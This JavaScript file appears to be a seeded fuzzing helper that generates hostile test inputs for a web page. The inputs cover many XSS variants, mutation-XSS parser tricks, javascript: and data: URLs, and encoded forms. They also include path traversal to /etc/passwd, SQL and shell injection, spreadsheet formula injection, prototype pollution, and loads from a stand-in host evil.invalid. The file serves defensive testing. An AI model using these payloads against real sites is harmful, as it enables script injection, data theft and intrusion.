// Texts that somebody would write who wants a page to run them, or to break it: known forms, combined by a
// seed. What they run is `pwned(1)`, or one of the dialogs.

/** mulberry32: the same seed gives the same numbers. */
export function chance(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// Nobody is at evil.invalid; to ask it is a failure.
const CODE = [
  'pwned(1)', 'top.pwned(1)', 'alert(1)', 'confirm`1`', 'pwned`1`', "eval('pwned(1)')", 'self["pwned"](1)',
  "Function('pwned(1)')()", "setTimeout('pwned(1)')", "fetch('//evil.invalid/')", 'print()', 'pwned(document.domain)',
];

// {X} is the code.
const FORMS = [
  // Elements that run, or load something that does.
  '<script>{X}</script>', '<ScRiPt >{X}</sCrIpT >', '<script src=//evil.invalid/x.js></script>', '<script type=module>{X}</script>',
  '<img src=x onerror={X}>', '<img/src="x"/onerror="{X}">', '<img src=x:x onerror\n=\n{X}>', '<image href=x onerror={X}>',
  '<svg onload={X}>', '<svg/onload={X}//', '<svg><script>{X}</script></svg>', '<svg><a xlink:href="javascript:{X}"><text y=9>k</text></a></svg>',
  '<svg><animate onbegin={X} attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>{X}</script></svg>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.{X}</script>"></iframe></foreignObject></svg>',
  '<svg><set attributeName=href to="javascript:{X}">', '<iframe src="javascript:parent.{X}">', '<iframe srcdoc="<script>parent.{X}</script>">',
  '<iframe onload={X}>', '<object data="javascript:{X}">', '<object data="data:text/html,<script>{X}</script>">', '<embed src="javascript:{X}">',
  '<body onload={X}>', '<input autofocus onfocus={X}>', '<select autofocus onfocus={X}>', '<textarea autofocus onfocus={X}>', '<details open ontoggle={X}>',
  '<video><source onerror={X}></video>', '<audio src=x onerror={X}>', '<video poster=//evil.invalid/x onloadstart={X}>', '<marquee onstart={X}>',
  '<div onpointerenter={X} style="position:fixed;inset:0">x</div>', '<p style="animation:spin 1s" onanimationstart={X}>', '<a href="javascript:{X}">k</a>',
  '<a href=" &#14; javascript:{X}">k</a>', '<a href="java&#9;script:{X}">k</a>', '<form action="javascript:{X}"><button>k</button></form>',
  '<button formaction="javascript:{X}" form=f>k</button>', '<base href="//evil.invalid/">', '<meta http-equiv=refresh content="0;url=javascript:{X}">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">', '<link rel=stylesheet href=//evil.invalid/x.css>', '<link rel=modulepreload href=//evil.invalid/x.js>',
  '<style>@import"//evil.invalid/x.css";*{background:url(//evil.invalid/y)}</style>', '<template><script>{X}</script></template>', '<dialog open onclose={X}>',
  '<custom-element onfocus={X} tabindex=0 autofocus>', '<xss onbeforetoggle={X} popover id=x>', '<portal src=//evil.invalid>', '<math href="javascript:{X}">k</math>',
  // What a parser makes of it the second time.
  '<noscript><p title="</noscript><img src=x onerror={X}>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={X}&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror={X}>">', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={X}>',
  '<!--><img src=x onerror={X}>-->', '<![CDATA[<img src=x onerror={X}>]]>', '<?xml version="1.0"?><script>{X}</script>', '<a title="--!><img src=x onerror={X}>">',
  // Out of where it stands.
  '"><img src=x onerror={X}>', "'><svg onload={X}>", '" onmouseover="{X}', "' onfocus='{X}' autofocus='", '`onerror={X}`', '</title><script>{X}</script>',
  '</textarea><script>{X}</script>', '</style><script>{X}</script>', '</script><script>{X}</script>', '</canvas><img src=x onerror={X}>', ']]><script>{X}</script>',
  '\\"><img src=x onerror={X}>', '";{X};//', "';{X};//", '*/{X}/*', '-->{X}<!--', '\\u0022;{X}//', '}}{X}{{', '</svg><script>{X}</script>',
  // Addresses.
  'javascript:{X}', 'JaVaScRiPt:{X}', 'java\tscript:{X}', '\u0001javascript:{X}', 'javascript://%0a{X}', 'vbscript:msgbox(1)', 'data:text/html,<script>{X}</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{X}"/>', 'data:text/javascript,{X}', '//evil.invalid/x.png', 'https://evil.invalid/x', '\\\\evil.invalid\\x',
  'blob:https://evil.invalid/1', 'file:///etc/passwd', '../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '..\\..\\boot.ini', '?board=x&theme={X}#{X}',
  // Styles.
  'url(javascript:{X})', 'expression({X})', 'red;background:url(//evil.invalid/c)', 'x}*{background:url(//evil.invalid/d)}', '--a:url(//evil.invalid/e)', '@import "//evil.invalid/f"',
  // Templates and formats.
  "{{constructor.constructor('{X}')()}}", '${{X}}', '#{{X}}', '<%= {X} %>', '{%raw%}{X}', '{0}{1}{:?}{}', '%s%n%x%d', '$(X)', '[[${{X}}]]', '[x](javascript:{X})', '![x](x"onerror="{X})',
  '**<img src=x onerror={X}>**', '[x]: javascript:{X}', '<javascript:{X}>',
  // Encoded once or twice.
  '&lt;script&gt;{X}&lt;/script&gt;', '&#60;img src=x onerror={X}&#62;', '&#x3c;script&#x3e;{X}', '%3Cscript%3E{X}%3C/script%3E', '%253Cscript%253E{X}', '\\u003cscript\\u003e{X}',
  '\\x3cscript\\x3e{X}', '+ADw-script+AD4-{X}', '\uff1cscript\uff1e{X}\uff1c/script\uff1e', '<\u017fcript>{X}</\u017fcript>', '\u2028{X}\u2029', '\ufeff<script>{X}</script>',
  // Names that objects have, and what spreadsheets, shells and databases run.
  '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', '__defineGetter__', 'then', 'location', 'NaN', '1e999', '-0', 'null', 'undefined', 'true', '[object Object]',
  '{"__proto__":{"polluted":1}}', '=HYPERLINK("//evil.invalid","x")', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '+1+1', '-1+1', '\t=1+1', '\uff1d1+1', "' OR 1=1 --", '1; DROP TABLE x',
  '$(id)', '`id`', '| id', '\r\nSet-Cookie: a=b\r\n\r\n<script>{X}</script>', '\u202e<img src=x onerror={X}>\u202c', 'A\u0300\u0301\u0302\u0303'.repeat(20),
];

const often = (text, random, one) => [...text].map((c) => (random() < 0.15 ? c + one : c)).join('');
const any = (random, list) => list[Math.floor(random() * list.length)];

/** What is done to a text before it is given; most stay as they are. */
const CHANGES = [
  (text) => text, (text) => text, (text) => text, (text) => text,
  (text, random) => [...text].map((c) => (random() < 0.5 ? c.toUpperCase() : c)).join(''),
  (text) => `\u202e${text}\u202c`, (text) => `\u2066${text}\u2069\u200f`, (text, random) => often(text, random, '\u200b'),
  (text) => text.replace('<', '<\0'), (text) => text.replaceAll(' ', '\f'), (text) => text.replaceAll(' ', '/'), (text) => `\0${text}\0`,
  (text) => `\n\r\t ${text} \u00a0\u3000`, (text) => `">${text}`, (text) => `'/>${text}`, (text) => `-->${text}<!--`, (text) => `</div></section></main>${text}`,
  (text) => text + text, (text) => `甲乙丙${text}丁`, (text) => `\ud800${text}\udfff`, (text) => `${text}${'长'.repeat(300)}`, (text) => `<b><i>${text}`,
  (text) => text.replaceAll('<', '<<'), (text) => `&quot;&gt;${text}`, (text) => text.normalize('NFKD'), (text) => `<!DOCTYPE html>${text}`, (text) => `]]>${text}`,
  (text) => encodeURIComponent(text.toWellFormed()), (text) => text.replaceAll('"', "'"), (text) => text.replaceAll('=', ' = '),
];

/** That many texts, no two the same; a few are very long. */
export function payloads(count, seed = 1) {
  const random = chance(seed);
  const all = new Set(FORMS.map((form) => form.replaceAll('{X}', CODE[0])));
  while (all.size < count) {
    const text = any(random, CHANGES)(any(random, FORMS).replaceAll('{X}', any(random, CODE)), random);
    all.add(random() < 0.004 ? text + 'A'.repeat(20_000) : text);
  }
  return [...all].slice(0, count);
}
